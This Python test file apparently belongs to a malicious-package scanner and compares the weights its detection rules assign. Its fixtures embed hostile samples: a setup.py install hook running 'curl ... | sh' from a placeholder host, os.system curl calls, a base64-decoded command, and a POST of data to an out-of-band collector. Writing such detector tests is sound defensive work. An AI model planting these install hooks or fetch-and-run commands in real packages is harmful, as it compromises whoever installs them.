"""Where a rule has more specific evidence it weighs more: the orderings the rules promise.

(Each rule's fire/silent cases live in ``tests/rules``; these compare weights of variants.)
"""

from __future__ import annotations

from collections.abc import Callable

from snakewarden.analysis.context import ScanContext
from snakewarden.analysis.registry import builtin_rules
from snakewarden.artifacts import artifact_from_files

RULES = {rule.meta.id: rule for rule in builtin_rules()}


def _reader(data: bytes) -> Callable[[int], bytes]:
    return lambda n: data[:n]


def weight(rule_id: str, files: dict[str, str]) -> float:
    """The heaviest finding of ``rule_id`` on a project made of ``files`` (0 when silent)."""
    files = {"pyproject.toml": "", **files}
    entries = [(p, len(t.encode()), _reader(t.encode())) for p, t in files.items()]
    ctx = ScanContext(artifact_from_files("demo", entries))
    return max((f.weight for f in RULES[rule_id].check(ctx)), default=0.0)


def test_a_request_at_import_weighs_more_than_a_client_created_there() -> None:
    request = "import requests\nrequests.get('https://x.example.invalid/ping')\n"
    client = "import requests\nSESSION = requests.Session()\n"
    assert weight("import-side-effect", {"acme/__init__.py": request}) > weight(
        "import-side-effect", {"acme/__init__.py": client}
    )


def test_an_install_hook_running_a_fetch_weighs_more_than_one_running_a_program() -> None:
    setup = (
        "import os\nfrom setuptools import setup\n"
        "from setuptools.command.install import install\n\n"
        "class I(install):\n    def run(self):\n        install.run(self)\n"
        "        cmd = {cmd!r}\n        os.system(cmd)\n\n"
        "setup(name='demo', cmdclass={{'install': I}})\n"
    )
    fetch = setup.format(cmd="curl -s https://stage.example.invalid/x.sh | sh")
    plain = setup.format(cmd="notify-send done")
    assert weight("install-hook", {"setup.py": fetch}) > weight("install-hook", {"setup.py": plain})


def test_a_command_in_a_variable_is_classified_like_a_literal_one() -> None:
    literal = "import os\ndef f():\n    os.system('curl -s https://x.example.invalid/a')\n"
    variable = (
        "import os\ndef f():\n    cmd = 'curl -s https://x.example.invalid/a'\n    os.system(cmd)\n"
    )
    assert weight("process-exec", {"acme/tool.py": variable}) == weight(
        "process-exec", {"acme/tool.py": literal}
    )


def test_a_command_decoded_by_a_helper_of_the_module_counts_as_decoded() -> None:
    helper = (
        "import base64, os\n"
        "def unpack(s):\n    return base64.b64decode(s).decode()\n"
        "def f():\n    os.system(unpack('ZWNobw=='))\n"
    )
    plain = "import os\ndef unpack(s):\n    return s\ndef f():\n    os.system(unpack('echo'))\n"
    assert weight("process-exec", {"acme/tool.py": helper}) > weight(
        "process-exec", {"acme/tool.py": plain}
    )


def test_sending_to_a_collector_weighs_more_than_naming_one() -> None:
    sends = (
        "import requests\nURL = 'https://abc.oast.fun/x'\n"
        "def f(data):\n    requests.post(URL, data=data)\n"
    )
    names = "DOCS = 'see https://abc.oast.fun/x'\n"
    assert weight("exfiltration-endpoint", {"acme/m.py": sends}) > weight(
        "exfiltration-endpoint", {"acme/m.py": names}
    )
